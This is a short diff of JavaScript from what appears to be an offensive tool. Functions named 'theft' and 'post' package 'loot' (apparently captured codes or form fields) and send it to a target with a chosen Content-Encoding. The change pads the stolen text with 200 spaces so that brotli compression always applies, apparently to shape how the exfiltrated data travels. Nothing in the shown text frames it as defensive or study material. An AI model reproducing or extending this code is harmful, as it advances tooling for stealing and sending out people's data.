@@ -27,7 +27,10 @@ const encoded = (
     ofWrapped: encode(Buffer.from('plain')).toString() === 'plain' ? 'path_ambiguous' : 'defused',
   },
   write: (target, loot) => {
-    const text = type === FORM ? theft(loot.code) : JSON.stringify(FIELDS(loot.code));
+    // The filling makes it worth compressing: brotli leaves some short texts as they are, depending on the code.
+    const filling = ' '.repeat(200);
+    const text =
+      type === FORM ? `${theft(loot.code)}&pad=${filling}` : JSON.stringify(FIELDS(loot.code)) + filling;
     return post(target, loot, encode(Buffer.from(text)).toString('latin1'), [
       type,
       `Content-Encoding: ${coding}`,
